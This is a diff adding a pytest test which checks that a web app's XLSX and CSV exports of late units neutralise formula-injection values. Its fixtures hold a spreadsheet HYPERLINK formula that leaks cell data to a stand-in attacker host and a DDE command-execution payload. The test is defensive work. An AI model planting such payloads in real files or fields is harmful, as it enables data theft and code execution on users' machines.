@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 from datetime import timedelta
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import select
 from starlette.routing import Route
 from starlette.testclient import TestClient
 
@@ -16,6 +18,7 @@ from kiemdiem.web.accounts import MAX_FAILURES_PER_IP, MAX_FAILURES_PER_USER
 from kiemdiem.web.server import SESSION_COOKIE
 from tests.webdata import NOW, PASSWORD, build, web_app
 from workflow.db import Database
+from workflow.models import Unit
 
 PAGES = ["/", "/late", "/late.csv", "/late.xlsx", "/units/GL-PC-CH-T2", "/plan"]
 
@@ -103,7 +106,7 @@ def test_late_list_filters_sorts_and_exports(app):
     assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
     sheet = load_workbook(io.BytesIO(xlsx.content)).active
     rows = list(sheet.iter_rows(values_only=True))
-    assert rows[1][0] == "Mã đơn vị" and len(rows) == 2 + 27
+    assert rows[0][0] == "Mã đơn vị" and len(rows) == 1 + 27
     assert c.get("/late.pdf").status_code == 404
 
 
@@ -311,3 +314,41 @@ def test_an_entry_committed_below_the_newest_id_still_changes_the_data_version(d
     with db.session() as session:
         after = data_version(session)
     assert after[0] == before[0] == newest + 10 and after != before
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B3,"Bấm để xem")'
+HOSTILE_SECRETARY = "=cmd|' /C calc'!A0"
+
+
+def test_late_exports_hold_data_never_formulas(app):
+    """A name or secretary that starts like a formula is text in both exports; the header is
+    the first row; the deadline is a date cell, days late a number, the phone keeps its 0; the
+    file name carries the filters and the local date."""
+    with app.db.session(write=True) as session:
+        unit = session.execute(select(Unit).where(Unit.code == "GL-TS-T1")).scalar_one()
+        unit.name, unit.secretary = HOSTILE_NAME, HOSTILE_SECRETARY
+    c = logged_in(app, "tinh")
+    xlsx = c.get("/late.xlsx?level=cell&stage=cell_met")
+    assert 'filename="don-vi-cham-2026-GL-cell-cell_met-20261121.xlsx"' in xlsx.headers["content-disposition"]
+    book = load_workbook(io.BytesIO(xlsx.content))
+    sheet = book.active
+    header, *rows = list(sheet.iter_rows())
+    assert [c.value for c in header][:5] == ["Mã đơn vị", "Tên đơn vị", "Cấp", "Giai đoạn", "Hạn"]
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:I{len(rows) + 1}"
+    assert sheet.page_setup.orientation == "landscape" and sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert book.properties.title.startswith("Đơn vị chậm tiến độ")
+    hostile = next(r for r in rows if r[0].value == "GL-TS-T1")
+    assert hostile[1].value == HOSTILE_NAME and hostile[1].data_type == "s"
+    assert hostile[6].value == HOSTILE_SECRETARY and hostile[6].data_type == "s"
+    assert hostile[4].is_date and hostile[4].value.date().isoformat() == "2026-11-17"
+    assert hostile[5].data_type == "n" and hostile[5].value >= 1
+    assert hostile[7].value == "0912000015" and hostile[7].data_type == "s"
+    assert not any(cell.data_type == "f" for row in rows for cell in row)
+
+    text = c.get("/late.csv?level=cell&stage=cell_met").content.decode("utf-8-sig")
+    header, *lines = list(csv.reader(io.StringIO(text)))
+    assert header[0] == "Mã đơn vị"
+    line = next(line for line in lines if line[0] == "GL-TS-T1")
+    assert line[1] == "'" + HOSTILE_NAME and line[6] == "'" + HOSTILE_SECRETARY
+    assert line[4].startswith("2026-11-17T00:00+07:00") and line[7] == "0912 000 015"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
